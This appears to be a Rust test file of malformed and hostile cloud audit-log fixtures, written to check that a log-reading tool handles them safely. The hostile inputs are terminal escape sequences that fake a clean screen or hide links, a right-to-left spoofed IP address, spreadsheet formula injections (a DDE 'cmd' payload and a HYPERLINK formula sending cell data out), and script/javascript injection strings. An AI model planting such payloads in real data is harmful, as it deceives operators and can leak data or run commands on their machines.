//! Sound JSON with members missing, of the wrong type, or written to harm whoever reads them.

use serde_json::{Value, json};

use super::{Case, NOTHING, THREE, TWO, around, disable};
use crate::record::{Record, envelope};

/// Three records that are read, each with its finding.
const READ: Case = Case { records: 3, findings: THREE, ..NOTHING };

pub const CASES: &[Case] = &[
    Case {
        file: "missing-event-time.json",
        about: "the second of three records has no eventTime: evaluated all the same",
        make: || without("missing-event-time", "eventTime"),
        problems: &[("parse", "eventTime")],
        exit: 3,
        ..READ
    },
    Case {
        file: "missing-event-name.json",
        about: "the second of three records has no eventName",
        make: || without("missing-event-name", "eventName"),
        problems: &[("parse", "eventName")],
        findings: TWO,
        exit: 3,
        ..READ
    },
    Case {
        file: "missing-event-source.json",
        about: "the second of three records has no eventSource",
        make: || without("missing-event-source", "eventSource"),
        problems: &[("parse", "eventSource")],
        findings: TWO,
        exit: 3,
        ..READ
    },
    Case {
        file: "bad-event-time.json",
        about: "the second of three records happened at `yesterday`: evaluated all the same",
        make: || with("bad-event-time", "eventTime", json!("yesterday")),
        problems: &[("parse", "eventTime")],
        exit: 3,
        ..READ
    },
    Case {
        file: "epoch-event-time.json",
        about: "eventTime in seconds and in milliseconds since 1970, and with an offset",
        make: || {
            let of = "epoch-event-time";
            let times = [
                json!(1_773_309_601),
                json!(1_773_309_602_500_u64),
                json!("2026-03-12T11:00:03+01:00"),
            ];
            all(of, &times.map(|time| ("eventTime", time)))
        },
        ..READ
    },
    Case {
        file: "odd-parameters.json",
        about: "requestParameters a string, a list and a number; the key is known from resources",
        make: || {
            let values = [json!("keyId=all"), json!([{"keyId": "x"}, 7]), json!(7)];
            all("odd-parameters", &values.map(|value| ("requestParameters", value)))
        },
        ..READ
    },
    Case {
        file: "odd-members.json",
        about: "resources an object, responseElements a list, userAgent an object",
        make: || {
            all(
                "odd-members",
                &[
                    ("resources", json!({"ARN": 5})),
                    ("responseElements", json!(["x"])),
                    ("userAgent", json!({"name": "x"})),
                ],
            )
        },
        ..READ
    },
    Case {
        file: "terminal-escapes.json",
        about: "terminal controls: clear the screen, set the title, a hidden link, right-to-left text",
        make: || {
            all(
                "terminal-escapes",
                &[
                    (
                        "userAgent",
                        json!("\u{1b}[2J\u{1b}[1;1H\u{1b}]0;all is well\u{7}no findings"),
                    ),
                    (
                        "userAgent",
                        json!(
                            "\u{1b}]8;;https://example.com\u{1b}\\docs\u{1b}]8;;\u{1b}\\\r\n\u{9b}31m"
                        ),
                    ),
                    ("sourceIPAddress", json!("\u{202e}1.2.0.291\u{2066}\u{8}\u{8}\u{8}")),
                ],
            )
        },
        ..READ
    },
    Case {
        file: "spreadsheet-formulas.json",
        about: "fields that a spreadsheet would run, HTML and Markdown",
        make: formulas,
        ..READ
    },
    Case {
        file: "long-key-name.json",
        about: "a member's name of 5,000 characters, in the record and in requestParameters",
        make: || {
            let (of, name) = ("long-key-name", "n".repeat(5_000));
            let record = disable(of, 1).param(&name, 1).set(&name, "x");
            around(of, &record.json())
        },
        ..READ
    },
];

fn without(of: &str, member: &str) -> Vec<u8> {
    around(of, &disable(of, 1).without(member).json())
}

fn with(of: &str, member: &str, value: Value) -> Vec<u8> {
    around(of, &disable(of, 1).set(member, value).json())
}

/// Three records with one member each replaced.
fn all(of: &str, members: &[(&str, Value); 3]) -> Vec<u8> {
    let records: Vec<String> = (0..3)
        .zip(members)
        .map(|(n, (name, value))| disable(of, n).set(name, value.clone()).json())
        .collect();
    envelope(&records).into_bytes()
}

fn formulas() -> Vec<u8> {
    let of = "spreadsheet-formulas";
    let alias = |n, alias: &str| -> Record { disable(of, n).param("keyId", alias) };
    let records = [
        alias(0, "alias/=1+1").set("userAgent", "=HYPERLINK(\"https://example.com/?\"&A1,\"ok\")"),
        alias(1, "=cmd|' /C calc'!A0").set("userAgent", "\t@SUM(1+1)*cmd|' /C calc'!A0"),
        alias(2, "alias/<script>alert(1)</script>").set("userAgent", "| a | [b](javascript:c) ` |"),
    ];
    envelope(&records.map(|record| record.json())).into_bytes()
}
